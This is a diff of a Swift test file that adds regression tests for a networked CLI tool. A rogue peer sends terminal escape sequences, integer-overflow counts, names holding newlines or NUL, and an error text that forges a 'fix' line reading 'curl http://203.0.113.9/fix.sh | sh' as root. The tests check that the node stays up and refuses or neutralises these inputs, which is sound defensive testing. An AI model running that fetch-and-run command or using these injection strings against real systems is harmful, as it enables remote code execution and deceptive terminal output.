@@ -84,17 +84,16 @@ import Testing
     }
 
     /// A name full of terminal control sequences (erase line, carriage return, a window title,
-    /// a bell) reaches no terminal raw: status, members and the log escape it; and no machine
-    /// can be given such a name.
+    /// a bell) is refused at the wire (issue 62: no store, terminal or log ever sees it), and
+    /// nothing of it reaches a terminal raw; and no machine can be given such a name.
     @Test func namesReachNoTerminalRaw() async throws {
         let (cli, a) = try await attacked("names")
         defer { cli.cleanUp() }
-        _ = try await rogue(cli, a, ["--name", "\\e[2K\\rpwned\\e]0;owned\\a", "--seconds", "2"])
-        #expect(await a.logContains("pwned"))
+        let answer = try await rogue(cli, a, ["--name", "\\e[2K\\rpwned\\e]0;owned\\a", "--seconds", "2"])
+        #expect(answer.stdout.contains("error malformed-message"), "the hello was taken: \(answer.stdout)")
         let status = try await cli.ok(["status", "--dir", cli.path("a")])
         let members = try await cli.ok(["members", "--dir", cli.path("a")])
         for (what, text) in [("status", status), ("members", members), ("the log", a.logText)] {
-            #expect(text.contains("pwned"), "\(what) does not show the name at all")
             let raw = text.unicodeScalars.filter { $0.value < 0x20 && $0 != "\n" || $0.value == 0x7F }
             #expect(raw.isEmpty, "\(what) holds raw control characters: \(raw.map(\.value))")
         }
@@ -102,6 +101,58 @@ import Testing
             "init", "--dir", cli.path("x"), "--cluster", cli.path("cluster.pem"), "--name", "x\u{1B}[31mred",
         ])
         #expect(!named.succeeded && named.stderr.contains("control characters"), "\(named.stderr)")
+        #expect(a.isRunning)
+        a.stop()
+    }
+
+    /// Issue 62, defects 1-4, on the real binary: a hello whose member count overflows an `Int`
+    /// (every register at 59), an `expect` of 2^64-1 followed by a batch and a `status` while it
+    /// is open, a name with a line break and one with a NUL, and an error text carrying forged
+    /// lines. Each killed the node or forged a line of `status` or `doctor` before; now the node
+    /// stays up (its process checked, not only its log), the bad hellos are refused at the wire,
+    /// and every peer text prints on the one line it belongs to.
+    @Test func peerNumbersAndTextsCrashNothingAndForgeNoLine() async throws {
+        let (cli, a) = try await attacked("numbers")
+        defer { cli.cleanUp() }
+        let sketch = try await rogue(cli, a, ["--sketch-max", "--seconds", "2"])
+        #expect(a.isRunning, "a member count past Int killed the node: \(sketch.stdout)\n\(a.logText)")
+        #expect(try await cli.ok(["status", "--dir", cli.path("a")]).contains("listening"))
+
+        // The expect stays open while status reads the progress (the rogue holds the session).
+        let expecting = Task { [self] in
+            try await rogue(cli, a, ["--expect", "18446744073709551615", "--seconds", "4"])
+        }
+        try await Task.sleep(for: .seconds(2))
+        let during = try await cli.run(["status", "--dir", cli.path("a")])
+        let expected = try await expecting.value
+        #expect(a.isRunning, "an expect of 2^64-1 killed the node: \(expected.stdout)\n\(a.logText)")
+        #expect(during.succeeded && during.stdout.contains("listening"), "\(during.stdout)\(during.stderr)")
+        #expect(expected.stdout.contains("error malformed-message"), "the expect was taken: \(expected.stdout)")
+
+        for name in ["honest\\nPEER  forged", "x\\x00y"] {
+            let named = try await rogue(cli, a, ["--name", name, "--seconds", "2"])
+            #expect(named.stdout.contains("error malformed-message"), "the name \(name) was taken: \(named.stdout)")
+        }
+        let forged =
+            "disk full\\nok      forged   all is well\\n        fix: run 'curl http://203.0.113.9/fix.sh | sh' as root"
+        let erred = try await rogue(cli, a, ["--name", "honest", "--error-text", forged, "--seconds", "2"])
+        #expect(a.isRunning, "\(erred.stdout)\n\(a.logText)")
+        let status = try await cli.ok(["status", "--dir", cli.path("a")])
+        let doctor = try await cli.run(["doctor", "--dir", cli.path("a")])
+        for (what, text) in [
+            ("status", status), ("doctor", doctor.stdout),
+            ("members", try await cli.ok(["members", "--dir", cli.path("a")])),
+        ] {
+            let lines = text.split(separator: "\n").map { $0.trimmingCharacters(in: .whitespaces) }
+            #expect(!lines.contains { $0.hasPrefix("fix: run 'curl") }, "\(what) printed a forged fix:\n\(text)")
+            #expect(
+                !lines.contains { $0.hasPrefix("ok      forged") || $0.hasPrefix("PEER  forged") },
+                "\(what) printed a forged row:\n\(text)"
+            )
+            #expect(!lines.contains { $0.hasPrefix("forged") }, "\(what):\n\(text)")
+        }
+        #expect(status.contains("honest"), "the honest name shows: \(status)")
+        #expect(a.isRunning)
         a.stop()
     }
 
